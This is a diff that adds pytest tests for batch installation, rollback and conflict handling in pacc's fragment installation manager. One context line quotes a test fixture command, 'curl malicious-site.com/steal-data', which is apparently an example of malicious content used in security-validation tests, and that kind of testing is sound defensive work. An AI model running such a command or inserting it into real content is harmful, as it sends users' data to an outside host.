@@ -10,7 +10,7 @@ import pytest
 
 from pacc.errors.exceptions import PACCError, ValidationError
 from pacc.fragments.claude_md_manager import CLAUDEmdManager
-from pacc.fragments.installation_manager import FragmentInstallationManager
+from pacc.fragments.installation_manager import FragmentInstallationManager, InstallationResult
 from pacc.fragments.storage_manager import FragmentStorageManager
 
 
@@ -425,6 +425,93 @@ curl malicious-site.com/steal-data
         )
         assert result3.success is True
 
+    def _write_fragments(self, count):
+        fragments = []
+        for i in range(count):
+            fragment = self.temp_dir / f"batch_{i}.md"
+            fragment.write_text(f"---\ntitle: Batch {i}\n---\n# Batch {i}\nContent.")
+            fragments.append(fragment)
+        return fragments
+
+    def test_staged_installation_updates_claude_md_once(self):
+        """Test that many fragments are stored and registered in one pass."""
+        fragments = self._write_fragments(12)
+        result = InstallationResult(success=False, target_type="project")
+
+        with patch.object(
+            self.installation_manager.claude_md_manager,
+            "update_section",
+            wraps=self.installation_manager.claude_md_manager.update_section,
+        ) as mock_update:
+            result = self.installation_manager._perform_actual_installation(
+                result, fragments, "project", force=False
+            )
+
+        assert result.success is True
+        assert result.installed_count == 12
+        assert mock_update.call_count == 1
+        assert list(result.installed_fragments) == [f.stem for f in fragments]
+
+        config = json.loads(self.pacc_json_path.read_text())
+        assert sorted(config["fragments"]) == sorted(f.stem for f in fragments)
+        claude_md = self.claude_md_path.read_text()
+        assert all(f"@.claude/pacc/fragments/{f.stem}.md" in claude_md for f in fragments)
+
+    def test_staged_installation_rolls_back_every_fragment(self):
+        """Test that a late failure removes all stored fragments."""
+        fragments = self._write_fragments(5)
+        original_claude_md = self.claude_md_path.read_text()
+        result = InstallationResult(success=False, target_type="project")
+
+        with patch.object(
+            self.installation_manager,
+            "_update_pacc_json_with_fragments",
+            side_effect=OSError("disk full"),
+        ):
+            result = self.installation_manager._perform_actual_installation(
+                result, fragments, "project", force=False
+            )
+
+        assert result.success is False
+        assert "disk full" in result.error_message
+        assert not list((self.project_root / ".claude/pacc/fragments").glob("*.md"))
+        assert self.claude_md_path.read_text() == original_claude_md
+
+    def test_forced_installation_rollback_restores_replaced_fragments(self):
+        """Test that overwritten fragments come back when a forced install fails late."""
+        fragments = self._write_fragments(3)
+        self.storage_manager.store_fragment("batch_1", "Existing", "project")
+        result = InstallationResult(success=False, target_type="project")
+
+        with patch.object(
+            self.installation_manager,
+            "_update_pacc_json_with_fragments",
+            side_effect=OSError("disk full"),
+        ):
+            result = self.installation_manager._perform_actual_installation(
+                result, fragments, "project", force=True
+            )
+
+        assert result.success is False
+        assert self.storage_manager.load_fragment("batch_1", "project") == "Existing"
+        assert self.storage_manager.find_fragment("batch_0", "project") is None
+        assert not list(self.project_root.glob(".claude/pacc/.fragment-staging-*"))
+
+    def test_staged_installation_rejects_existing_before_storing(self):
+        """Test that one existing fragment aborts the batch without writes."""
+        fragments = self._write_fragments(3)
+        self.storage_manager.store_fragment("batch_1", "Existing", "project")
+        result = InstallationResult(success=False, target_type="project")
+
+        result = self.installation_manager._perform_actual_installation(
+            result, fragments, "project", force=False
+        )
+
+        assert result.success is False
+        assert "'batch_1' already exists" in result.error_message
+        assert self.storage_manager.find_fragment("batch_0", "project") is None
+        assert self.storage_manager.load_fragment("batch_1", "project") == "Existing"
+
     def test_installation_result_metadata(self):
         """Test installation result contains proper metadata."""
         fragment_file = self.temp_dir / "metadata_fragment.md"